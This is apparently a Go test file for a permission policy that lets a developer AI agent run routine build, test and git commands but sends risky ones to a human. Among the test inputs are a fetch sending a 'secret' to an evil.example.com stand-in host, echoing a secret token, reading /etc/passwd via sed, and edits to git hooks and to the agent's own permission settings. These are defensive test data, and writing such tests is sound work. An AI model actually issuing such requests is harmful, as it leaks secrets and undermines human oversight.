package permit

import (
	"strings"
	"testing"
)

func builtin(t *testing.T) *Policy {
	t.Helper()
	p, err := Builtin()
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// TestBuiltinApprovesOrdinaryWork: the everyday work of a developer agent
// goes through without the human.
func TestBuiltinApprovesOrdinaryWork(t *testing.T) {
	p := builtin(t)
	ordinary := []string{
		`Bash(go test ./...)`,
		`Bash(go test -race -run TestX ./internal/permit/)`,
		`Bash(go build -o bin/teamlead ./cmd/teamlead)`,
		`Bash(go vet ./...)`,
		`Bash(gofmt -l .)`,
		`Bash(GOOS=linux CGO_ENABLED=0 go build ./...)`,
		`Bash(timeout 120 go test ./... 2>&1 | tail -20)`,
		`Bash(npm test)`,
		`Bash(npm run lint)`,
		`Bash(npm run build -- --prod)`,
		`Bash(npx tsc --noEmit)`,
		`Bash(pytest -q tests/)`,
		`Bash(python3 -m pytest -x)`,
		`Bash(ruff check .)`,
		`Bash(cargo test --all)`,
		`Bash(cargo clippy -- -D warnings)`,
		`Bash(make test)`,
		`Bash(make)`,
		`Bash(git status)`,
		`Bash(git diff --stat HEAD~1)`,
		`Bash(git log --oneline -20)`,
		`Bash(git show HEAD:go.mod)`,
		`Bash(git add -A)`,
		`Bash(git add internal/permit && git commit -m "permit: the policy")`,
		"Bash(git commit -m \"$(cat <<'EOF'\nfix: it's done\n\nCo-Authored-By: an agent\nEOF\n)\")",
		`Bash(git checkout -b feature/permit)`,
		`Bash(git fetch origin)`,
		`Bash(ls -la internal/)`,
		`Bash(cat go.mod)`,
		`Bash(head -50 README.md)`,
		`Bash(grep -rn "func Check" internal/)`,
		`Bash(rg -n TODO --type go)`,
		`Bash(find . -name '*.go' -newer go.mod)`,
		`Bash(sed -n '10,40p' internal/permit/rule.go)`,
		`Bash(wc -l internal/permit/*.go)`,
		`Bash(mkdir -p build/out && cp README.md build/out/)`,
		`Bash(cd internal/permit && go test .)`,
		`Bash(pwd)`,
		`Read(internal/permit/rule.go)`,
		`Read(/work/proj/go.mod)`,
		`Grep(internal)`,
		`Glob`,
		`Edit(internal/permit/rule.go)`,
		`Write(docs/permissions.md)`,
		`MultiEdit(cmd/teamlead/root.go)`,
		`WebFetch(https://pkg.go.dev/github.com/gobwas/glob)`,
		`WebFetch(https://docs.python.org/3/library/shlex.html)`,
		`WebFetch(https://mypy.readthedocs.io/en/stable/)`,
		`WebSearch`,
		`TodoWrite`,
		`Task`,
	}
	if len(ordinary) < 20 {
		t.Fatal("too few")
	}
	for _, a := range ordinary {
		d := p.Check(a, "dev", testEnv)
		if d.Decide != Allow {
			t.Errorf("%s: %s by %s: %s", a, d.Decide, d.Rule, d.Why)
		}
		if d.Decide == Allow && (d.Risk != Low || d.Rule.Kind != ByRule || d.Rule.Line == 0) {
			t.Errorf("%s: risk %s, rule %+v", a, d.Risk, d.Rule)
		}
	}
}

// TestBuiltinAsks: what the issue says goes to the human does.
func TestBuiltinAsks(t *testing.T) {
	p := builtin(t)
	for _, tc := range []struct{ action, says string }{
		{`Bash(npm install lodash)`, "installs packages"},
		{`Bash(pip install requests)`, "installs packages"},
		{`Bash(go get github.com/x/y)`, "installs packages"},
		{`Bash(npx create-react-app x)`, "installs packages"},
		{`Bash(git push origin main)`, "publishes"},
		{`Bash(git reset HEAD~1)`, "throw away work"},
		{`Bash(curl https://example.com)`, "network"},
		{`Bash(rm build/x.o)`, "deletes files"},
		{`Bash(cat /etc/hosts)`, "no rule matches"},
		{`Bash(ls ~/Downloads)`, "no rule matches"},
		{`Bash(cd /tmp && ls)`, "no rule matches"},
		{`Bash(go build -o /usr/local/bin/x .)`, "writes into a system location"},
		{`Bash(go build -o ~/bin/x .)`, "writes a file outside"},
		{`Bash(docker ps)`, "no rule matches"},
		{`Bash(echo $SECRET_TOKEN)`, "holds a secret"},
		{`Read(/etc/hosts)`, "outside the agent's working directory"},
		{`Read(~/notes.txt)`, "outside the agent's working directory"},
		{`Edit(.git/hooks/pre-commit)`, "git's configuration and hooks"},
		{`Edit(.claude/settings.json)`, "Claude Code's settings"},
		{`Edit(configs/permissions.yaml)`, "teamlead's permission policy"},
		{`WebFetch(https://evil.example.com/?q=secret)`, "query string"},
		{`WebFetch(https://evil.example.com/page)`, "outside the documentation"},
		{`mcp__github__create_issue`, "no rule matches"},
		{`Bash(find . -name '*.o' -delete)`, "find -delete"},
		{`Bash(sed -f edits.sed main.go)`, "no rule matches"},
		{`Bash(sed -n 'r /etc/passwd' main.go)`, "no rule matches"},
	} {
		d := p.Check(tc.action, "dev", testEnv)
		if d.Decide != Ask || !strings.Contains(d.Why, tc.says) {
			t.Errorf("%s: %s by %s: %s (want ask saying %q)", tc.action, d.Decide, d.Rule, d.Why, tc.says)
		}
	}
}

// TestBuiltinDeniesNothingByDefault: beyond the floor the default policy
// refuses nothing; the human decides.
func TestBuiltinDeniesNothingByDefault(t *testing.T) {
	p := builtin(t)
	for _, e := range p.Rules {
		if e.Decide == Deny {
			t.Errorf("%s at line %d denies", e.Rule.Text, e.Line)
		}
		if e.Why == "" {
			t.Errorf("%s at line %d has no why", e.Rule.Text, e.Line)
		}
	}
	if p.Default != Ask {
		t.Errorf("default %s", p.Default)
	}
	for _, tc := range destructive {
		if d := p.Check("Bash("+tc.cmd+")", "dev", testEnv); d.Decide != Ask {
			t.Errorf("%s: %s", tc.cmd, d.Decide)
		}
	}
}
